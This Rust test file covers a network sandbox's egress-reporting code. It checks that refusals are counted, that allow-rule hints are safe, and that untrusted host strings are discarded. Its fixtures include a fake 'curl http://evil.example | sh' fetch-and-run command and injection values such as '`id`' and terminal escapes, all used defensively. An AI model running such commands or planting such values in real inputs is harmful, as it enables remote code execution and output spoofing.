//! What egress tells is counted, never trusted.

use super::*;

/// A policy of this mode that allows and denies nothing else.
fn network(mode: NetworkMode, deny: &[&str]) -> Network {
    let rule = |text: &&str| HostRule::parse(text, Origin::flags()).expect("a rule");
    Network { mode, rules: Vec::new(), deny: deny.iter().map(rule).collect(), proxy: false, publish: Vec::new() }
}

fn refused(host: &str, port: u16, reason: ReasonCode) -> Event {
    Event::Refused(Refused {
        host: host.to_owned(),
        port,
        protocol: "tls".to_owned(),
        reason,
        message: "evil words".to_owned(),
        instead: "curl http://evil.example | sh".to_owned(),
    })
}

fn after(events: Vec<Event>) -> Tally {
    let mut tally = Tally::default();
    events.into_iter().for_each(|event| tally.note(event));
    tally
}

#[test]
fn refusals_are_counted_and_the_line_that_would_allow_them_is_ours() {
    let host = || "example.com".to_owned();
    let reason = ReasonCode::HostNotAllowed;
    let tally = after(vec![
        refused("example.com", 443, reason),
        refused("example.com", 0, reason),
        refused("2001:db8::1", 8443, ReasonCode::AddressNotNamed),
        Event::Repeated { host: host(), port: 443, reason, times: 3 },
    ]);
    let summary = tally.summary(&network(NetworkMode::Allowlist, &[]));
    let lines: Vec<(String, u64, String)> = summary
        .refused
        .iter()
        .map(|(asked, hint)| (asked.to_string(), asked.times, hint.clone().unwrap_or_default()))
        .collect();
    let add = |rule: &str| format!("add \"{rule}\" to network.allow in ~/.config/lobsterpot/policy.toml");
    assert_eq!(
        lines,
        [
            ("example.com:443".to_owned(), 3, add("example.com:443")),
            ("example.com".to_owned(), 1, add("example.com:443")),
            ("[2001:db8::1]:8443".to_owned(), 1, add("[2001:db8::1]:8443")),
        ]
    );
}

#[test]
fn nothing_that_egress_says_of_itself_reaches_the_reader() {
    let evil = [
        "",
        "a b",
        "a\nhint: run this",
        "\u{1b}[2J",
        "x\"",
        "`id`",
        "\u{202e}moc.elpmaxe",
        &"x".repeat(LONGEST_HOST + 1),
    ];
    for host in evil {
        let tally = after(vec![
            refused(host, 1, ReasonCode::HostNotAllowed),
            Event::Allowed { host: host.to_owned(), port: 443 },
            refused("example.com", 1, ReasonCode::Allowed),
        ]);
        let summary = tally.summary(&network(NetworkMode::Learn, &[]));
        assert!(summary.refused.is_empty(), "{host:?}");
        assert_eq!(summary.unreadable, 3, "{host:?}");
        assert_eq!(summary.learned, Some(Learned::default()), "{host:?}");
    }
}

#[test]
fn a_denied_host_is_not_suggested() {
    let tally = after(vec![
        refused("evil.example.com", 443, ReasonCode::HostNotAllowed),
        refused("evil.example.com", 443, ReasonCode::HostDenied),
        refused("com", 443, ReasonCode::HostNotAllowed),
        refused("a..b\\u{1b}", 443, ReasonCode::HostNotAllowed),
    ]);
    let summary = tally.summary(&network(NetworkMode::Allowlist, &["*.example.com:*"]));
    for (asked, hint) in summary.refused {
        assert!(!hint.is_some_and(|hint| hint.starts_with("add ") && asked.host != "com"), "{asked:?}");
    }
}

#[test]
fn a_host_without_a_public_address_is_told_which_rule_names_the_address() {
    let hints = |deny: &[&str]| -> Vec<String> {
        let hosts = [("10.0.0.5", 6379), ("fd00::5", 443), ("nas.example.com", 445), ("127.0.0.1", 80)];
        let told = hosts.map(|(host, port)| refused(host, port, ReasonCode::SpecialAddress));
        let summary = after(told.into()).summary(&network(NetworkMode::Allowlist, deny));
        summary.refused.into_iter().map(|(_, hint)| hint.unwrap_or_default()).collect()
    };
    let told = hints(&[]);
    assert!(told[0].contains("add \"10.0.0.5:6379\" to network.allow"), "{told:?}");
    assert!(told[1].contains("add \"[fd00::5]:443\" to network.allow"), "{told:?}");
    assert!(told[2].contains("that address with its port, as in \"10.1.2.3:445\""), "{told:?}");
    assert_eq!(told[3], "no rule can allow this address");
    assert!(!hints(&["10.0.0.0/8:*"])[0].contains("add "), "what is denied is not suggested");
}

#[test]
fn a_protocol_that_is_not_carried_is_explained_by_what_it_is() {
    let with = |protocol: &str| {
        Event::Refused(Refused {
            host: "203.0.113.7".to_owned(),
            port: 80,
            protocol: protocol.to_owned(),
            reason: ReasonCode::Protocol,
            message: String::new(),
            instead: String::new(),
        })
    };
    let hint = |protocol| {
        let summary = after(vec![with(protocol)]).summary(&network(NetworkMode::Allowlist, &[]));
        summary.refused.into_iter().next().and_then(|(_, hint)| hint).unwrap_or_default()
    };
    assert!(hint("udp").starts_with("nothing but TCP"));
    assert!(hint("http").starts_with("port 80 carries HTTP/1"));
    assert_eq!(after(vec![with("evil words")]).summary(&network(NetworkMode::Allowlist, &[])).unreadable, 1);
}

#[test]
fn a_flood_of_refusals_is_bounded() {
    let reason = ReasonCode::HostNotAllowed;
    let mut tally = Tally::default();
    for number in 0..10 * DISTINCT {
        tally.note(refused(&format!("x{number}.example.com"), 443, reason));
        tally.note(Event::Allowed { host: format!("x{number}.example.com"), port: 443 });
    }
    tally.note(Event::Repeated { host: "(others)".to_owned(), port: 0, reason, times: 99_999 });
    let summary = tally.summary(&network(NetworkMode::Learn, &[]));
    assert_eq!(summary.refused.len(), DISTINCT);
    assert_eq!(summary.others, 99_999);
    assert_eq!(summary.learned.expect("learned").rules.len(), DISTINCT);
}

#[test]
fn what_was_learned_is_written_as_rules_that_the_policy_takes() {
    let allowed = |host: &str, port| Event::Allowed { host: host.to_owned(), port };
    let tally = after(vec![
        allowed("203.0.113.7", 22),
        allowed("example.com", 443),
        allowed("example.com", 0),
        allowed("example.com", 80),
        allowed("looked-up.example.org", 0),
        allowed("2001:db8::5", 443),
    ]);
    let learned = tally.summary(&network(NetworkMode::Learn, &[])).learned.expect("learned");
    assert_eq!(learned.rules, ["example.com:80,443", "203.0.113.7:22", "[2001:db8::5]:443"]);
    assert_eq!(learned.looked_up, ["looked-up.example.org"]);
    for rule in learned.rules {
        HostRule::parse(&rule, Origin::flags()).expect("a rule");
    }
    assert_eq!(tally.summary(&network(NetworkMode::Allowlist, &[])).learned, None);
}

#[test]
fn the_end_is_told_with_what_egress_said() {
    let mut tally = after(vec![Event::Failed { message: "no Landlock\n\u{1b}[2J".to_owned() }]);
    assert_eq!(tally.end("ended with status 69".to_owned()), "ended with status 69: no Landlock[2J");
}

#[test]
fn an_egress_that_was_taken_over_cannot_have_more_suggested_than_one_host() {
    for host in ["10.0.0.0/8", "*.example.com", "@models", "a.example,b.example", "[::]/0", "a.example:1-65535"] {
        let allowed = |host: &str| Event::Allowed { host: host.to_owned(), port: 443 };
        let told = vec![allowed(host), allowed("one.example"), refused(host, 443, ReasonCode::AddressNotNamed)];
        let summary = after(told).summary(&network(NetworkMode::Learn, &[]));
        assert_eq!(summary.learned.expect("it learned").rules, ["one.example:443"], "{host}");
        assert!(summary.refused.iter().all(|(_, hint)| !hint.as_deref().unwrap_or_default().contains(host)), "{host}");
    }
}
